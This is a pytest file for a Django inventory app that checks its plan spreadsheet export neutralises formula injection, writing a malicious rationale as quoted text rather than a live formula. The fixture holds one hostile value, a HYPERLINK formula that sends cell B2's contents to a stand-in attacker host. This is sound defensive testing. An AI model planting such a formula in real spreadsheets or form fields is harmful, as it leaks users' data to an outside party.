"""Issue 13, finding 3: a rationale typed as a formula leaves the plan export (ke-hoach.xlsx) as text."""

import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from hopnhat.consolidation.inventory import decisions, plan
from hopnhat.consolidation.inventory.models import Decision, OldSystem

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"Chi tiết")'


def _evil_decision():
    decisions.decide(OldSystem.objects.get(code="hagiang-mail"), Decision.KEEP, actor="nguyen.van.an",
                     rationale=EVIL)


def _cells(book) -> list:
    return [cell for row in book["Kế hoạch"].iter_rows() for cell in row]


def test_plan_workbook_writes_the_rationale_as_text(register, tmp_path):
    _evil_decision()
    out = tmp_path / "ke-hoach.xlsx"
    plan.write_plan(out, OldSystem.objects.all())
    cells = _cells(load_workbook(out))
    [evil] = [c for c in cells if c.value == EVIL]
    assert evil.data_type == "s" and evil.quotePrefix
    assert not [c for c in cells if c.data_type == "f"]
    numbers = [c for c in cells if c.column_letter == "H" and c.row > 1]  # "Điểm" stays a number
    assert numbers and all(c.data_type == "n" for c in numbers)


def test_plan_download_has_no_live_formula(register, tq_admin):
    _evil_decision()
    client = Client()
    client.force_login(tq_admin)
    response = client.get("/ra-soat/ke-hoach.xlsx")
    assert response.status_code == 200
    cells = _cells(load_workbook(io.BytesIO(response.content)))
    assert [c.data_type for c in cells if c.value == EVIL] == ["s"]
    assert not [c for c in cells if c.data_type == "f"]
